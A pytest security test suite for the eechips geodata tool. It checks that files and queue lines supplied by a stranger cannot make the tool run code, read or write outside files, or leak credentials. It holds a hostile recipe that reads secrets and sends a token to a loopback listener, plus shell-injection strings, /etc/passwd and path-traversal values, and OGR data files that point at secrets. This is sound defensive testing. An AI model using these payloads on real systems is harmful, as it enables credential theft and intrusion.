"""What others can do: every cell of the table in docs/explanation/security.md is tried, with real files and commands.

A folder outside is watched by the kernel, a server on loopback counts requests and the secrets in them, and a recipe of
a stranger leaves a mark when it is executed. After each test none of them may have seen anything.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

import eechips
from eechips.manifest.ledger import LEDGER_NAME
from eechips.manifest.reserved_names import OUTCOMES_FOLDER
from eechips.recipe import unit_id
from local_tests.support.local_earth_engine import Server
from local_tests.support.loopback import QuietServer
from tests.docs.pages import read_page, read_table
from tests.support.commands import run_command
from tests.support.programs import run_program
from tests.support.watched_folder import WatchedFolder, watch_folder

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(sys.platform != "linux", reason="inotify tells who reads"),
]

SECRET = "token-of-the-worker-7f3a"
CODE, READ, WRITE, SEND, REQUEST, QUOTA, WRONG = (
    "run code", "read a file", "write a file outside", "send credentials", "make requests", "use the quota",
    "give wrong data",
)  # fmt: skip
DEEDS = (CODE, READ, WRITE, SEND, REQUEST, QUOTA, WRONG)
LINE, FOLDER, LOCKFILE, RUN_FILE, OUTCOME, WORKER, RECIPE_BESIDE, DATA_FILE = (
    "line of a queue", "run folder", "lockfile", "run file in a run folder", "outcome in a shared folder",
    "process with the same folders", "recipe beside, swapped", "dataset or geodata file",
)  # fmt: skip
PLACES = (LINE, FOLDER, LOCKFILE, RUN_FILE, OUTCOME, WORKER, RECIPE_BESIDE, DATA_FILE)

HARMLESS = """
from eechips import Table

NEEDS_SERVICE = False

def get_requests(count=2):
    return list(range(count))

def get_result(index, number):
    return Table([{"number": number}])
"""
HOSTILE = """
import os, urllib.request
from pathlib import Path

Path(os.environ["MARK"]).touch()
secret = (Path(os.environ["OUTSIDE"]) / "secret.csv").read_text()
(Path(os.environ["OUTSIDE"]) / "new.txt").write_text(secret)
headers = {"Authorization": os.environ["EECHIPS_SCENES_TOKEN"]}
urllib.request.urlopen(urllib.request.Request(os.environ["LISTENER"], headers=headers))
"""
SQUARE = '{"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]]}'
GEOJSON = f'{{"type": "Feature", "properties": {{"id": "{SECRET}"}}, "geometry": {SQUARE}}}'


def cell(place: str, *deeds: str, can: bool = False) -> Callable[[Any], Any]:
    """Note which cells of the table a test tries, and whether the deed is possible."""

    def note(test: Any) -> Any:
        test.cells = {**getattr(test, "cells", {}), **{(place, deed): can for deed in deeds}}
        return test

    return note


@dataclass
class Listener:
    """A server that records what it receives.

    Attributes:
        url: URL of the server.
        requests: request lines with their headers.
    """

    url: str = ""
    requests: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class World:
    """A machine with a user, whose files and secrets a stranger wants.

    Attributes:
        at: working folder.
        outside: a folder that no command may touch.
        listener: a server that no command may reach.
    """

    at: Path
    outside: WatchedFolder
    listener: Listener

    @property
    def mark(self) -> Path:
        return self.at.parent / "executed"

    def eechips(self, *words: str | Path, given: str | None = None) -> tuple[int, str]:
        """Type a command; return its exit status and what it printed."""
        typed = [str(word) for word in words]
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sys, "argv", ["eechips", *typed])  # the command that run.json records
            done = run_command(*typed, given=given)
        if done.exception is not None and not isinstance(done.exception, SystemExit):
            raise done.exception
        assert SECRET not in done.output
        return done.exit_code, " ".join(done.output.split())

    def refused(self, why: str, *words: str | Path, given: str | None = None) -> None:
        """Type a command that is refused with a sentence."""
        status, said = self.eechips(*words, given=given)
        assert (status, why in said) == (2, True), said
        assert "a bug in eechips" not in said

    def be(self, user: str) -> None:
        os.environ["EECHIPS_CACHE"] = str(self.at.parent / user)

    def seen(self) -> list[str]:
        """Return what a stranger has achieved since the last call."""
        marks = ["code was executed"] if self.mark.exists() else []
        requests = [f"request {each}" for each in self.listener.requests]
        touched = [f"outside {each}" for each in self.outside.touched()]
        self.listener.requests.clear()
        self.mark.unlink(missing_ok=True)
        return [*marks, *requests, *touched]


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            found.requests.append(f"{self.requestline} {dict(self.headers)}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = do_HEAD = do_PUT = answer  # noqa: N815 - names of the base class

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with QuietServer(("127.0.0.1", 0), Handler) as server:
        found.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        yield found
        server.shutdown()
        thread.join()


@pytest.fixture
def world(tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    for name in ("at", "outside", "home"):
        (tmp_path / name).mkdir()
    outside = tmp_path / "outside"
    (outside / "secret.csv").write_text(f"id,lon,lat\n{SECRET},0.5,0.5\n")
    (outside / "secret.geojson").write_text(GEOJSON)
    (outside / "key.json").write_text(json.dumps({"type": "service_account", "private_key": SECRET}))
    monkeypatch.chdir(tmp_path / "at")
    for name, value in {
        "HOME": str(tmp_path / "home"),
        "EECHIPS_CACHE": str(tmp_path / "me"),
        "EECHIPS_SCENES_TOKEN": SECRET,
        "MARK": str(tmp_path / "executed"),
        "OUTSIDE": str(outside),
        "LISTENER": listener.url,
    }.items():
        monkeypatch.setenv(name, value)
    Path("recipe.py").write_text(HARMLESS)
    Path("evil.py").write_text(HOSTILE + HARMLESS)
    with watch_folder(outside) as watched:
        found = World(tmp_path / "at", watched, listener)
        yield found
        assert found.seen() == []
    assert list((tmp_path / "home").iterdir()) == []


def test_the_world_notices_what_a_program_does(world: World) -> None:
    assert world.eechips("run", "evil.py", "--executor", "threads", "-q")[0] == 0
    seen = " ".join(world.seen())
    assert all(text in seen for text in ("code was executed", "outside secret.csv", "outside new.txt", SECRET))


def line(*job: str, **changes: Any) -> str:
    """A line of a queue that nobody has signed."""
    unit = {
        "position": 0,
        "id": "a" * 64,
        "unit": {"kind": "point", "coordinates": [0.5, 0.5]},
        "name": "chips/a",
        "identity": "0" * 64,
    }
    return json.dumps({**unit, "job": list(job), **changes})


def deliver(world: World, why: str, *job: str, **changes: Any) -> None:
    """Deliver a line to a worker and to the join."""
    given = line(*job, **changes)
    for command in ("work", "join"):
        world.refused(why, command, "--units", "-", "--out", "out", given=given)
    assert not (world.at / "out").exists()


NAIP = ("sample", "--dataset", "NAIP", "--total", "1")
MORE = "their command sets more than data"


@cell(LINE, CODE)
def test_a_line_runs_no_code(world: World) -> None:
    deliver(world, MORE, "run", "evil.py")
    deliver(world, MORE, "run", "recipe.py", "-p", "count=1")
    deliver(world, MORE, *NAIP, "--executor", "beam", "--", "--setup_file=evil.py")
    deliver(world, "fetches nothing", "retry", "run", "--trust")
    assert world.eechips("plan", "run", "recipe.py", "--to", "units.jsonl")[0] == 0
    shutil.copy("evil.py", "recipe.py")  # the recipe of a stranger, of the same name
    for command in ("work", "join"):
        world.refused("is not the file with which", command, "--units", "units.jsonl", "--out", "out")


@cell(LINE, READ)
def test_a_line_reads_no_file(world: World) -> None:
    (world.at / "here.geojson").write_text(GEOJSON)
    for path in (str(world.outside.folder / "secret.geojson"), "../outside/secret.geojson", "here.geojson"):
        deliver(world, MORE, *NAIP, "--roi", path)
        deliver(world, MORE, "timeseries", "--dataset", "NAIP", "--regions", path)
    deliver(world, MORE, "sample", "--dataset", "NAIP", "--points", str(world.outside.folder / "secret.csv"))
    deliver(world, MORE, *NAIP, "--local", str(world.outside.folder))


@cell(LINE, WRITE)
def test_a_line_writes_no_file_outside(world: World) -> None:
    place = world.outside.folder
    deliver(world, MORE, *NAIP, "--ledger", str(place / "new"))
    deliver(world, MORE, "scenes", "--stac", "items.parquet", "--ingest", str(place / "new"))
    for name in ("../../outside/new", str(place / "new"), "manifest.sqlite", "a/../../../outside/new"):
        status, said = world.eechips("work", "--units", "-", "--out", "out", given=line(*NAIP, name=name))
        assert status == 2, said


@cell(LINE, SEND, REQUEST)
def test_a_line_sends_no_credentials_and_reaches_no_server(world: World) -> None:
    host = world.listener.url.removeprefix("http://")
    deliver(world, MORE, *NAIP, "--endpoint", world.listener.url, "--send-credentials")
    deliver(world, MORE, *NAIP, "--credentials", str(world.outside.folder / "key.json"))
    deliver(world, MORE, *NAIP, "--project", "theirs")
    deliver(world, MORE, *NAIP, "--export-to", "gs://theirs/x")
    deliver(world, MORE, *NAIP, "--executor", f"dask:tcp://{host}")
    deliver(world, MORE, "scenes", "--stac", world.listener.url, "--auth", "bearer", "--auth-host", host)
    deliver(world, MORE, "scenes", "--stac", world.listener.url, "--auth", "sas", "--token-url", world.listener.url)
    deliver(world, MORE, *NAIP, "--roi", f"{world.listener.url}/region.geojson")


@pytest.mark.exhaustive
@cell(LINE, CODE, SEND, REQUEST)
@pytest.mark.slow
def test_a_worker_process_refuses_what_its_user_may_type(world: World) -> None:
    """The same words send the token if the user types them, and not if they stand in a line."""
    item = {"type": "Feature", "stac_version": "1.0.0", "id": "a", "collection": "c", "links": [],
            "bbox": [0, 0, 1, 1], "geometry": json.loads(SQUARE), "properties": {"datetime": "2020-01-01T00:00:00Z"},
            "assets": {"data": {"href": f"{world.listener.url}/a.tif", "roles": ["data"]}}}  # fmt: skip
    Path("items.json").write_text(json.dumps({"type": "FeatureCollection", "features": [item]}))
    host = world.listener.url.removeprefix("http://").partition(":")[0]
    words = ("scenes", "--stac", "items.json", "--auth", "bearer", "--auth-host", host)
    command = (sys.executable, "-m", "eechips")
    subprocess.run([*command, *words, "--out", "typed", "--retries", "0", "-q"], capture_output=True, check=False)
    assert any(SECRET in each for each in world.seen())
    for job in (words, ("run", "evil.py"), (*NAIP, "--endpoint", world.listener.url, "--send-credentials")):
        worker = [*command, "work", "--units", "-", "--out", "out"]
        ended = run_program(*worker, input=line(*job))
        assert (ended.returncode, MORE in ended.stderr) == (2, True), ended.stderr


ODD_UNITS: tuple[dict[str, Any], ...] = (
    {"kind": "point"},
    {"kind": "call"},
    {"kind": "point", "grid": "../../outside/secret.csv", "coordinates": [[]], "latest": None},
    {"kind": "tile", "grid": {"crs": "/etc/passwd", "transform": [0] * 6, "width": 1e308, "height": -1}},
)


def odd_line(planned: str, number: int, unit: dict[str, Any], *, is_hashed: bool) -> str:
    """Return a line with another unit, and with its id, which anybody can compute, or with an id of nothing."""
    content = json.loads(planned)
    identifier = unit_id(unit, content["identity"]) if is_hashed else f"{number:064x}"
    odd = {"id": identifier, "name": f"odd/{number}", "position": 100 + number, "unit": unit}
    return json.dumps({**content, **odd})


@cell(LINE, QUOTA, WRONG, can=True)
@pytest.mark.slow
def test_a_line_decides_which_data_a_worker_fetches(world: World, demo_server: Server) -> None:
    """With the worker's own service, project and limits; it fills no run of Earth Engine with the demo planet."""
    world.be("them")
    options: dict[str, Any] = {"total": 2, "roi": "-105.1,39.7,-105.0,39.8", "size": 16, "format": "tif"}
    service: dict[str, Any] = {"endpoint": demo_server.url, "project": "local", "executor": "threads"}
    lines = list(eechips.plan("sample", "NAIP", **options, **service))
    world.be("me")
    deliver(world, MORE, *NAIP, "--local")
    deliver(world, MORE, *NAIP, "--in-flight", "1000", "--rate", "none", "--executor", "processes:1000")
    own = ["--endpoint", demo_server.url, "--project", "local", "--executor", "threads", "-q"]
    for is_hashed, expected in ((False, (2, 0)), (True, (1, 1))):  # a unit that is wrong fails by itself
        hostile = [odd_line(lines[0], number, unit, is_hashed=is_hashed) for number, unit in enumerate(ODD_UNITS)]
        given = "\n".join([*hostile, lines[0]])
        status, said = world.eechips("work", "--units", "-", "--out", f"odd-{is_hashed}", *own, given=given)
        assert (status, said.count('"state": "done"')) == expected, said
        assert ("somebody has changed its line" in said) is not is_hashed
    for command in ("work", "join"):
        status, said = world.eechips(command, "--units", "-", "--out", "out", *own, given="\n".join(lines))
        assert status == 0, said
    assert len(list((world.at / "out").rglob("*.tif"))) == 2


@pytest.fixture
def run(world: World) -> Path:
    """The run of a stranger, with a hostile recipe, as it was copied here."""
    world.be("them")
    assert world.eechips("run", "recipe.py", "--out", "run", "--executor", "threads", "-q")[0] == 0
    world.be("me")
    world.seen()
    return world.at / "run"


def edit(run: Path, **values: Any) -> None:
    info = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**info, **values}))


def reopen(run: Path) -> None:
    with closing(sqlite3.connect(run / LEDGER_NAME)) as ledger, ledger:
        ledger.execute("UPDATE units SET state = 'failed_permanent', error_class = 'PermanentError'")


READING = ("status", "verify", "failures", "report", "check", "card", "lock")


@cell(FOLDER, CODE)
def test_a_run_folder_runs_no_code(world: World, run: Path) -> None:
    reopen(run)
    for command in (
        "eechips run evil.py",
        "eechips rebuild evil.lock x --trust",
        "eechips sample --dataset NAIP --total 1 --ledger x",
    ):
        edit(run, command=command)
        world.refused("was not executed: read it", "retry", run)
    for command in ("eechips serve --record", "eechips trust . --yes", "rm -rf ."):
        edit(run, command=command)
        assert world.eechips("retry", run, "--trust")[0] == 2
    edit(run, command="eechips run evil.py")
    world.refused("sets more than data (RECIPE)", "init", "saved.toml", "--from", run)
    assert not (world.at / "saved.toml").exists()
    for verb in READING:
        world.eechips(verb, run)


@cell(FOLDER, CODE, READ)
def test_a_signed_run_json_is_valid_in_its_folder_and_for_its_recipe_only(world: World, run: Path) -> None:
    words = ("--executor", "threads", "-q")
    assert world.eechips("run", "recipe.py", "--out", "own/run", *words)[0] == 0
    shutil.copy("own/run/run.json", run / "run.json")  # another run, of the same folder name
    reopen(run)
    world.refused("was not executed: read it", "retry", run)
    reopen(world.at / "own" / "run")
    assert world.eechips("retry", "own/run")[0] == 0  # as it is
    reopen(world.at / "own" / "run")
    shutil.copy("evil.py", "recipe.py")
    world.refused("was not executed: read it", "retry", "own/run")


@cell(FOLDER, READ, WRITE)
def test_a_run_folder_leads_to_no_file_outside(world: World, run: Path) -> None:
    call = {"command": "sample", "options": {"dataset": "NAIP", "roi": str(world.outside.folder / "secret.geojson")}}
    edit(run, call=call, command=f"eechips sample --dataset NAIP --ledger {world.outside.folder / 'new'}")
    for verb in (*READING, "retry"):
        world.eechips(verb, run)
    with closing(sqlite3.connect(run / LEDGER_NAME)) as ledger, ledger:
        ledger.execute("UPDATE units SET file = '../../outside/secret.csv' WHERE position = 0")
    for verb in (*READING, "retry"):
        assert world.eechips(verb, run)[0] == 2


@cell(FOLDER, SEND, REQUEST, QUOTA)
def test_a_run_folder_sends_no_request(world: World, run: Path) -> None:
    edit(run, endpoint=world.listener.url, project="theirs", source=world.listener.url)
    for verb in READING:
        world.eechips(verb, run)
    for roi in (str(world.outside.folder / "secret.geojson"), "../outside/secret.geojson", "wfs.geojson"):
        edit(run, parameters={"roi": roi}, directory=str(world.at))
        Path("wfs.geojson").write_text(f"<OGRWFSDataSource><URL>{world.listener.url}</URL></OGRWFSDataSource>")
        for verb in ("report", "check", "card"):
            world.eechips(verb, run)
    reopen(run)
    command = f"eechips sample --dataset NAIP --endpoint {world.listener.url} --send-credentials"
    edit(run, command=command, endpoint=world.listener.url)
    world.refused("was not executed: read it", "retry", run)
    address = "s3://theirs/results"
    edit(run, results=address)
    with closing(sqlite3.connect(run / LEDGER_NAME)) as ledger, ledger:
        ledger.execute("INSERT OR REPLACE INTO meta (key, value) VALUES ('results', ?)", (json.dumps(address),))
    world.refused("eechips trust", "verify", run)


@cell(FOLDER, CODE)
def test_finishing_a_received_run_does_not_sign_its_command(world: World, run: Path) -> None:
    """The user types a command of their own in a folder whose results are all there; its run.json stays another's."""
    edit(run, command="eechips run evil.py", directory=str(world.at))
    (run / "manifest.parquet").unlink()
    words = ("--executor", "threads", "-q")
    assert world.eechips("run", "recipe.py", "--out", "run", *words)[0] == 0
    assert (run / "manifest.parquet").exists()
    assert json.loads((run / "run.json").read_text())["command"] == "eechips run evil.py"
    reopen(run)
    world.refused("was not executed: read it", "retry", run)


@cell(FOLDER, WRONG, can=True)
def test_a_run_folder_shows_what_is_in_it(world: World, run: Path) -> None:
    edit(run, notes=["measured on Mars"])
    assert eechips.open_run(run).info["notes"] == ["measured on Mars"]


def lockfile(path: Path, *, recipe: str | None = None, units: Any = None, **header: Any) -> Path:
    """A lockfile that nobody has signed."""
    import hashlib

    from tests.lockfile.test_lockfile_format import write

    if recipe is None:
        return write(path, header, units)
    digest = hashlib.sha256(recipe.encode()).hexdigest()
    locked = {"option": "path", "path": "evil.py", "name": "evil.py", "sha256": digest}
    of_recipe = {"command": "run", "options": {"path": "evil.py"}, "inputs": [locked], "source": ""}
    return write(path, {**of_recipe, **header}, units, **{f"inputs/{digest}": recipe.encode()})


@cell(LOCKFILE, CODE)
def test_a_lockfile_runs_no_code(world: World, run: Path) -> None:
    locked = lockfile(world.at / "a.lock", recipe=HOSTILE + HARMLESS)
    world.refused("its recipe executes code", "rebuild", locked, "again")
    world.refused("names the command 'retry'", "rebuild", lockfile(world.at / "b.lock", command="retry"), "again")
    for options in ({"executor": "beam"}, {"pipeline_options": ["--setup_file=x"]}, {"save": "x.toml"}, {"new": 1}):
        path = lockfile(world.at / "c.lock", options={"dataset": "NAIP", "total": 1, **options})
        world.refused("its options set more than data", "rebuild", path, "again")


@pytest.mark.parametrize("member", ["lock.json", "units.jsonl", "assets.jsonl"])
@cell(LOCKFILE, CODE)
def test_a_signed_lockfile_is_valid_as_a_whole_only(member: str, world: World) -> None:
    """With units of a stranger, the user's own recipe would do what the stranger wants."""
    words = ("--executor", "threads", "-q")
    assert world.eechips("run", "recipe.py", "--out", "own", *words)[0] == 0
    assert world.eechips("lock", "own", "-o", "own.lock", "--no-versions")[0] == 0
    with zipfile.ZipFile("own.lock") as signed, zipfile.ZipFile("other.lock", "w") as changed:
        for name in signed.namelist():
            data = signed.read(name)
            if name == member == "lock.json":
                data = data.replace(b'"left_out": 0', b'"left_out": 1')
            changed.writestr(name, data + (b"\n" if name == member and name != "lock.json" else b""))
    world.refused("its recipe executes code", "rebuild", "other.lock", "again")
    assert world.eechips("rebuild", "own.lock", "again", *words[:-1])[0] == 0


@cell(LOCKFILE, READ, WRITE)
def test_a_lockfile_leads_to_no_file(world: World) -> None:
    for path in (str(world.outside.folder / "secret.geojson"), "../outside/secret.geojson", "~/x", "recipe.py"):
        found = lockfile(world.at / "a.lock", options={"dataset": "NAIP", "roi": path})
        world.refused("its options set more than data: --roi", "rebuild", found, "again")
    for options in ({"out": "../outside/new"}, {"quota_folder": str(world.outside.folder)}, {"ledger": "../outside"}):
        found = lockfile(world.at / "a.lock", options={"dataset": "NAIP", "total": 1, **options})
        world.refused("its options set more than data", "rebuild", found, "again")
    unit = {"position": 0, "id": "b" * 64, "unit": {}, "name": "../../outside/new", "state": "done", "finished": None,
            "expression": None, "files": []}  # fmt: skip
    found = lockfile(world.at / "a.lock", units=[unit], files=0)
    assert world.eechips("rebuild", found, "again", "--local")[0] == 2


@cell(LOCKFILE, SEND, REQUEST)
def test_a_lockfile_names_no_server_and_no_credentials(world: World) -> None:
    url = world.listener.url
    for options in ({"endpoint": url, "send_credentials": True}, {"credentials": "key.json"}, {"project": "theirs"}):
        found = lockfile(world.at / "a.lock", options={"dataset": "NAIP", "total": 1, **options})
        world.refused("its options set more than data", "rebuild", found, "again")
    world.refused("name it, or another", "rebuild", lockfile(world.at / "b.lock", source=url), "again")
    found = lockfile(world.at / "c.lock", options={"dataset": "NAIP", "roi": f"{url}/region.geojson"})
    world.refused("its options set more than data: --roi", "rebuild", found, "again")
    scenes = lockfile(world.at / "d.lock", command="scenes", options={"stac": url})
    world.refused("names the command 'scenes'", "rebuild", scenes, "again")


@cell(LOCKFILE, QUOTA, WRONG, can=True)
@pytest.mark.slow
def test_a_lockfile_decides_which_data_are_fetched(world: World, demo_server: Server) -> None:
    world.be("them")
    service: dict[str, Any] = {"endpoint": demo_server.url, "project": "local", "executor": "threads", "quiet": True}
    options: dict[str, Any] = {"total": 2, "roi": "-105.1,39.7,-105.0,39.8", "size": 16, "format": "tif"}
    eechips.lock(eechips.sample("NAIP", out="theirs", **options, **service), "a.lock", versions=False)
    world.be("me")
    assert eechips.rebuild("a.lock", "again", **service).is_same


RUN_FILES: dict[str, tuple[str, ...]] = {
    CODE: ('[run]\nrecipe = "evil.py"', '[sample]\ndataset = "NAIP"\nexecutor = "beam"', '[retry]\nfolder = "."'),
    READ: (
        '[sample]\ndataset = "NAIP"\nroi = "../outside/secret.geojson"',
        '[sample]\ndataset = "NAIP"\npoints = "{outside}/secret.csv"',
        '[sample]\ndataset = "NAIP"\nlocal = "{outside}"',
        '[check]\nfolder = "{outside}"',
    ),
    WRITE: (
        '[sample]\ndataset = "NAIP"\ntotal = 1\nout = "{outside}/new"',
        '[sample]\ndataset = "NAIP"\ntotal = 1\nquota_folder = "{outside}"',
        '[pack]\nfolder = "."\nout = "{outside}/new"',
    ),
    SEND: (
        '[sample]\ndataset = "NAIP"\ntotal = 1\nendpoint = "{url}"\nsend_credentials = true',
        '[sample]\ndataset = "NAIP"\ntotal = 1\ncredentials = "{outside}/key.json"',
        '[scenes]\nstac = "{url}"\nauth = "bearer"\nauth_host = ["127.0.0.1"]',
    ),
    REQUEST: ('[scenes]\nstac = "{url}"', '[sample]\ndataset = "NAIP"\ntotal = 1\nroi = "{url}/x.geojson"'),
}


@pytest.mark.parametrize("deed", RUN_FILES)
@cell(RUN_FILE, CODE, READ, WRITE, SEND, REQUEST)
def test_a_run_file_in_a_received_folder_sets_data_only(deed: str, world: World, run: Path) -> None:
    for text in RUN_FILES[deed]:
        text = text.replace("{outside}", str(world.outside.folder)).replace("{url}", world.listener.url)
        (run / "job.toml").write_text(text)
        world.refused("lies in the folder of another user's run, and sets more than data", "run", run / "job.toml")
        world.refused("sets more than data", "submit", run / "job.toml", "--slurm", "--to", "job")


@cell(RUN_FILE, QUOTA, WRONG, can=True)
@pytest.mark.slow
def test_a_run_file_in_a_received_folder_decides_which_data_are_fetched(
    world: World, run: Path, demo_server: Server
) -> None:
    (run / "job.toml").write_text(
        '[sample]\ndataset = "NAIP"\ntotal = 1\nroi = [-105.1, 39.7, -105.0, 39.8]\nsize = 16\n'
    )
    own = ("--endpoint", demo_server.url, "--project", "local", "--executor", "threads", "-q", "--dry-run")
    status, said = world.eechips("run", run / "job.toml", *own)
    assert (status, "units 1" in said) == (0, True), said


@pytest.fixture
def worked(world: World) -> list[dict[str, Any]]:
    """Outcomes of units that were fetched to ``out`` from ``units.jsonl``."""
    assert world.eechips("plan", "run", "recipe.py", "--to", "units.jsonl")[0] == 0
    words = ("--units", "units.jsonl", "--out", "out", "--outcomes", "outcomes.jsonl", "--executor", "threads", "-q")
    assert world.eechips("work", *words)[0] == 0
    return [json.loads(each) for each in Path("outcomes.jsonl").read_text().splitlines()]


def join(world: World, outcomes: list[dict[str, Any]]) -> tuple[int, str]:
    Path("outcomes.jsonl").write_text("".join(json.dumps(each) + "\n" for each in outcomes))
    words = ("--units", "units.jsonl", "--out", "out", "--outcomes", "outcomes.jsonl", "--executor", "threads", "-q")
    return world.eechips("join", *words)


OUTCOMES: dict[str, dict[str, Any]] = {
    "a path out": {"file": "../../outside/secret.csv"},
    "a path from the root": {"file": "/etc/passwd"},
    "an address": {"file": "s3://theirs/x"},
    "the ledger": {"file": "manifest.sqlite"},
    "run.json": {"file": "run.json"},
    "code": {"error_class": "__import__('os').system('touch executed')", "state": "done"},
    "a traceback": {"traceback": "$(touch executed)", "error": "`touch executed`", "state": "failed_permanent"},
    "a checksum": {"sha256": "0" * 64},
    "files": {"files": [{"layer": "", "file": "../../outside/secret.csv", "bytes": 1, "sha256": "0" * 64}]},
}


@pytest.mark.parametrize("kind", OUTCOMES)
@cell(OUTCOME, CODE, READ, WRITE, SEND, REQUEST, QUOTA)
def test_an_outcome_leads_nowhere(kind: str, world: World, worked: list[dict[str, Any]]) -> None:
    forged = [{**worked[0], **OUTCOMES[kind]}, worked[1]]
    (stored,) = (world.at / "out" / OUTCOMES_FOLDER).iterdir()
    plan, *_ = stored.read_text().splitlines()
    stored.write_text("\n".join([plan, *map(json.dumps, forged)]))
    status, said = join(world, forged)
    assert status == {"code": 0, "a traceback": 1, "a checksum": 1, "an address": 1}.get(kind, 2), said
    assert "a bug in eechips" not in said


@cell(OUTCOME, WRONG, can=True)
def test_an_outcome_with_its_file_is_taken_as_it_is(world: World, worked: list[dict[str, Any]]) -> None:
    """An outcome alone cannot replace a result; one with its file can, as a worker writes both."""
    import hashlib

    path = world.at / "out" / worked[0]["file"]
    right = path.read_bytes()
    path.write_bytes(right.replace(b"0", b"9"))
    assert join(world, worked)[0] == 1  # the file alone
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    forged = {**worked[0], "sha256": digest, "bytes": path.stat().st_size}
    status, said = join(world, [forged, worked[1]])
    assert status == 0, said


@cell(WORKER, CODE, READ, WRITE, SEND, REQUEST)
def test_a_process_with_the_same_folders_leads_workers_nowhere(
    world: World, worked: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Hostile records in the quota folder, a hostile ledger, links in the place of the results."""
    assert worked
    words = ("--units", "units.jsonl", "--out", "out", "--executor", "threads", "-q")
    shared = ("--ledger", "ledgers")
    monkeypatch.setenv("EECHIPS_QUOTA_FOLDER", "quota")
    assert world.eechips("work", *words, *shared)[0] == 0
    for path in (world.at / "quota").rglob("*.json"):
        path.write_text('{"version": 1, "run": "../../../outside/new", "slots": 1e999}')
    (path,) = (world.at / "ledgers").glob(f"*/{LEDGER_NAME}")
    with closing(sqlite3.connect(path)) as ledger, ledger:
        ledger.execute("UPDATE units SET file = '../../outside/secret.csv' WHERE position = 0")
    world.refused("outside/secret.csv", "work", *words, *shared)
    path.unlink()
    path.symlink_to(world.outside.folder / "secret.csv")
    assert world.eechips("work", *words, *shared)[0] == 2
    shutil.rmtree("out")
    (world.at / "out").symlink_to(world.at / "elsewhere")
    Path("elsewhere").mkdir()
    (world.at / "elsewhere" / "chips").symlink_to(world.outside.folder)
    assert world.eechips("work", *words)[0] != 0


@cell(WORKER, QUOTA, WRONG, can=True)
def test_a_process_with_the_same_folders_can_replace_results(world: World, worked: list[dict[str, Any]]) -> None:
    test_an_outcome_with_its_file_is_taken_as_it_is(world, worked)


@cell(RECIPE_BESIDE, *DEEDS)
def test_a_swapped_recipe_is_executed_by_no_plan_run_or_lockfile(world: World, worked: list[dict[str, Any]]) -> None:
    assert worked
    words = ("--executor", "threads", "-q")
    assert world.eechips("run", "recipe.py", "--out", "run", *words)[0] == 0
    assert world.eechips("lock", "run", "-o", "own.lock", "--no-versions")[0] == 0
    reopen(world.at / "run")
    shutil.copy("evil.py", "recipe.py")
    for command in ("work", "join"):
        world.refused("recipe.py is not the file", command, "--units", "units.jsonl", "--out", "out")
    world.refused("was not executed: read it and its recipe", "retry", "run")
    assert world.eechips("rebuild", "own.lock", "again", *words[:-1])[0] == 0


RECORD = """
id = "USDA/NAIP/DOQQ"
title = "{title}"
"""


@cell(DATA_FILE, CODE, WRITE, SEND)
def test_a_file_of_data_runs_nothing(world: World) -> None:
    own = ("--dry-run", "--total", "1", "--endpoint", "http://127.0.0.1:9", "--project", "p", "--budget=minutes=0.01")
    for text in ("__import__('os').system('touch x')", "= broken", RECORD.format(title="${x}"), "\0", "[" * 100_000):
        Path("record.toml").write_text(text)
        status, _ = world.eechips("sample", "--dataset", "record.toml", *own)
        assert status == 2
    for name, text in VECTORS.items():
        Path(name).write_text(text.replace("{outside}", str(world.outside.folder)).replace("{url}", world.listener.url))
        status, _ = world.eechips("sample", "--dataset", "NAIP", "--roi", name, *own)
        assert status == 2, name


VECTORS = {
    "service.geojson": "<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
    "virtual.geojson": '<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{outside}/secret.csv'
    "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
    "nothing.gpkg": "{url}/region.gpkg",
}


@cell(DATA_FILE, READ, REQUEST)
def test_a_file_of_geodata_leads_to_no_other_file_or_server(world: World) -> None:
    own = ("--dry-run", "--total", "1", "--endpoint", "http://127.0.0.1:9", "--project", "p")
    for name, text in VECTORS.items():
        text = text.replace("{outside}", str(world.outside.folder)).replace("{url}", world.listener.url)
        Path(name).write_text(text)
        with zipfile.ZipFile(f"{name}.zip", "w") as archive:
            archive.writestr(name.replace(".geojson", ".vrt"), text)
        for place in (name, f"{name}.zip"):
            status, said = world.eechips("sample", "--dataset", "NAIP", "--roi", place, *own)
            assert status == 2, said


@cell(DATA_FILE, QUOTA, WRONG, can=True)
@pytest.mark.slow
def test_a_file_of_geodata_decides_where_data_are_fetched(world: World, demo_server: Server) -> None:
    coordinates = "[[[-105.1, 39.7], [-105.0, 39.7], [-105.0, 39.8], [-105.1, 39.7]]]"
    Path("region.geojson").write_text(f'{{"type": "Polygon", "coordinates": {coordinates}}}')
    own = ("--endpoint", demo_server.url, "--project", "local", "--dry-run", "-q")
    words = ("sample", "--dataset", "NAIP", "--total", "3", "--size", "16", "--roi", "region.geojson", *own)
    status, said = world.eechips(*words)
    assert (status, "units 3" in said) == (0, True), said


def test_the_table_of_the_page_is_what_was_tried() -> None:
    tried: dict[tuple[str, str], bool] = {}
    for test in list(globals().values()):
        for key, can in getattr(test, "cells", {}).items():
            assert tried.setdefault(key, can) == can, key
    assert set(tried) == {(place, deed) for place in PLACES for deed in DEEDS}
    rows = read_table(read_page("explanation/security.md"), "a stranger's")
    assert [row["a stranger's"] for row in rows] == list(PLACES)
